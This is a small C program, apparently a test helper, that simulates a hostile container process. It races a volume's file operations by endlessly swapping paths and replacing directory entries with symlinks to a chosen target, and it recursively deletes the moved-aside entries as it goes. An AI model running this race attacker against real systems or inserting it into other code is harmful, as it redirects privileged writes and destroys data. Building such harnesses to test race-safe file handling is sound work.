/* Somebody hostile in a container: swaps entries of a volume for links to elsewhere, as fast as it can.
 *
 *   swap A B [C D …]        exchanges A with B, C with D, …, for ever
 *   steal TARGET DIR…       moves each entry of the directories aside and puts a link to TARGET in its place, for ever
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int wipe_one(const char *path, const struct stat *stat, int kind, struct FTW *walk) {
    (void)stat, (void)kind, (void)walk;
    remove(path);
    return 0;
}

static void steal(const char *target, const char *directory) {
    DIR *entries = opendir(directory);
    if (!entries) return;
    char stolen[4096], path[4096];
    snprintf(stolen, sizeof stolen, "%s/.stolen", directory);
    for (struct dirent *entry; (entry = readdir(entries));) {
        const char *name = entry->d_name;
        if (!strcmp(name, ".") || !strcmp(name, "..") || !strcmp(name, ".stolen")) continue;
        snprintf(path, sizeof path, "%s/%s", directory, name);
        nftw(stolen, wipe_one, 8, FTW_DEPTH | FTW_PHYS);
        if (rename(path, stolen) == 0 && symlink(target, path) != 0) continue;
    }
    closedir(entries);
}

int main(int n, char **words) {
    if (n < 4) return 2;
    if (!strcmp(words[1], "swap")) {
        for (;;)
            for (int i = 2; i + 1 < n; i += 2)
                renameat2(AT_FDCWD, words[i], AT_FDCWD, words[i + 1], RENAME_EXCHANGE);
    }
    for (;;) {
        for (int i = 3; i < n; i++) steal(words[2], words[i]);
        /* Now and then the writer gets through, so that every step of it is met. */
        usleep(rand() % 4000);
    }
}
